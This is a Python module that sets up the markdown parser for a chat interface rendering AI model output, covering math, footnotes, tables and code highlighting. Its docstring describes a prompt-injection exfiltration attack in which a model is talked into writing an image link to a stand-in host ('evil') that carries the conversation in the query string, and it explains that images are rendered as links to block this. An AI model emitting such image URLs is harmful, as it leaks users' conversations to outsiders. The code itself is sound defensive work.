"""The markdown parser: CommonMark with tables, strikethrough, bare-URL links (linkify), task
lists, footnotes and math, raw HTML disabled, fenced code highlighted by Pygments (CSS classes,
no inline styles). Its output still goes through the sanitiser (`numi.render.blocks`).

Model headings are demoted two levels (`#` -> h3) so they never compete with the page's own
headings. Images are rendered as links: a model can be talked into writing
`![](https://evil/?q=...)` to leak the conversation through an image fetch, and a link needs
a click.
"""

from __future__ import annotations

import re
from functools import lru_cache

from markupsafe import escape

from .links import speed_up as speed_up_linkify
from .math import mathml

# The demotion of model headings: `#` becomes h3 under the page's h1 and h2.
HEADING_SHIFT = 2

# `\(…\)` inline, `\[…\]` inline (display) and as a block, in the rule format of
# mdit_py_plugins.texmath (its own "brackets" rules share token names with dollarmath).
_BRACKET_INLINE = [
    {
        "name": "bracket_math_inline",
        "rex": re.compile(r"^\\\((.+?)\\\)", re.DOTALL),
        "tmpl": "",
        "tag": "\\(",
    },
    {
        "name": "bracket_math_display",
        "rex": re.compile(r"^\\\[(.+?)\\\]", re.DOTALL),
        "tmpl": "",
        "tag": "\\[",
    },
]
_BRACKET_BLOCK = {
    "name": "bracket_math_block",
    "rex": re.compile(r"^\\\[([\s\S]+?)\\\]\s*$", re.MULTILINE),
    "tmpl": "",
    "tag": "\\[",
}


@lru_cache(maxsize=1)
def parser():
    from markdown_it import MarkdownIt  # lazy: start-up time
    from mdit_py_plugins.amsmath import amsmath_plugin  # lazy: start-up time
    from mdit_py_plugins.dollarmath import dollarmath_plugin  # lazy: start-up time
    from mdit_py_plugins.footnote import footnote_plugin  # lazy: start-up time
    from mdit_py_plugins.tasklists import tasklists_plugin  # lazy: start-up time
    from mdit_py_plugins.texmath.index import (
        make_block_func,
        make_inline_func,
    )  # lazy: start-up time

    md = MarkdownIt("commonmark", {"html": False, "linkify": True, "highlight": _highlight})
    md.enable(["table", "strikethrough", "linkify"])
    speed_up_linkify(md.linkify)
    # Footnotes stay where they are written and references are matched without their
    # definition, so no block's rendering depends on text that comes after it.
    md.use(footnote_plugin, inline=False, move_to_end=False, always_match_refs=True)
    md.use(tasklists_plugin)
    # No blank lines inside $$…$$ (as in LaTeX and GitHub): a block ends at a blank line.
    md.use(dollarmath_plugin, allow_labels=False, allow_blank_lines=False, double_inline=True)
    md.use(amsmath_plugin)
    for rule in _BRACKET_INLINE:
        md.inline.ruler.before("escape", rule["name"], make_inline_func(rule))
    md.block.ruler.before(
        "fence", _BRACKET_BLOCK["name"], _with_map(make_block_func(_BRACKET_BLOCK))
    )
    # One rendering per place, whatever the delimiters: inline, displayed inside a
    # paragraph (a span: a div cannot sit in a <p>), displayed as a block.
    for name, place in (
        ("math_inline", "inline"),
        ("bracket_math_inline", "inline"),
        ("math_inline_double", "display"),
        ("bracket_math_display", "display"),
        ("math_block", "block"),
        ("bracket_math_block", "block"),
        ("amsmath", "block"),
    ):
        md.add_render_rule(name, lambda self, t, i, o, e, place=place: mathml(t[i].content, place))
    md.core.ruler.push("numi_markup", _adjust_tokens)
    md.add_render_rule("image", _image_as_link)
    md.add_render_rule("footnote_ref", _footnote_ref)
    md.add_render_rule("footnote_reference_open", _footnote_open)
    md.add_render_rule("footnote_reference_close", lambda self, t, i, o, e: "</div>\n")
    return md


def _with_map(rule):
    """texmath's block rule sets no source lines on its token; the block splitter needs them."""

    def wrapped(state, start_line, end_line, silent):
        first = len(state.tokens)
        matched = rule(state, start_line, end_line, silent)
        if matched and not silent:
            for token in state.tokens[first:]:
                token.map = token.map or [start_line, state.line]
        return matched

    return wrapped


_ALIGN = re.compile(r"text-align:(left|center|right)")
_TASK_BOX = {
    False: '<span class="task-box">☐</span>',
    True: '<span class="task-box checked">☑</span>',
}


def _adjust_tokens(state) -> None:
    """Headings demoted, table alignment as classes (no style attribute: CSP), task-list
    checkboxes as inert marks (no form controls in model output)."""
    for token in state.tokens:
        if token.type in ("heading_open", "heading_close"):
            token.tag = f"h{min(6, int(token.tag[1]) + HEADING_SHIFT)}"
        elif token.type in ("th_open", "td_open"):
            match = _ALIGN.search(str(token.attrGet("style") or ""))
            token.attrs.pop("style", None)
            if match:
                token.attrSet("class", "align-" + match.group(1))
        elif token.type == "inline" and token.children:
            for child in token.children:
                if (
                    child.type == "html_inline"
                    and 'class="task-list-item-checkbox"' in child.content
                ):
                    child.content = _TASK_BOX["checked=" in child.content]


def _image_as_link(self, tokens, idx, options, env):
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    src = token.attrGet("src") or ""
    return f'<a href="{escape(src)}">[image: {escape(alt)}]</a>'


# Footnote links name their note by label (#fn-<label>, and #fnref-<label> back): ids are
# not kept by the sanitiser (a message must not name elements of the page), so the page
# finds the note or the reference in the same message (static/js/app.js).
def _footnote_ref(self, tokens, idx, options, env):
    label = escape(tokens[idx].meta["label"])
    return f'<sup class="footnote-ref"><a href="#fn-{label}" title="Footnote {label}">[{label}]</a></sup>'


def _footnote_open(self, tokens, idx, options, env):
    label = escape(tokens[idx].meta["label"])
    return (
        f'<div class="footnote"><span class="footnote-label">[{label}]</span>'
        f'<a class="footnote-back" href="#fnref-{label}" title="Back to the text">↩'
        '<span class="visually-hidden"> back to the text</span></a>\n'
    )


@lru_cache(maxsize=64)
def _lexer(name: str):
    # Looking a lexer up scans the installed plugins: once per language, not per code block.
    from pygments.lexers import get_lexer_by_name  # lazy: start-up time
    from pygments.util import ClassNotFound  # lazy: start-up time

    try:
        return get_lexer_by_name(name, stripall=False)
    except ClassNotFound:
        return None


@lru_cache(maxsize=1)
def _formatter():
    from pygments.formatters import HtmlFormatter  # lazy: start-up time

    return HtmlFormatter(nowrap=True, classprefix="hl-")


def _highlight(code: str, lang: str, _attrs) -> str:
    from pygments import highlight  # lazy: start-up time

    lexer = _lexer(lang.strip().split()[0][:40]) if lang.strip() else None
    if lexer is None:
        return ""  # markdown-it escapes and wraps the code itself
    body = highlight(code, lexer, _formatter())
    language = escape(lexer.aliases[0] if lexer.aliases else "")
    return f'<pre class="code"><code class="language-{language}">{body}</code></pre>'


def highlight_css() -> str:
    """The Pygments stylesheet for the classes `render_markdown` emits."""
    from pygments.formatters import HtmlFormatter  # lazy: start-up time

    return HtmlFormatter(classprefix="hl-", style="default").get_style_defs(".code")
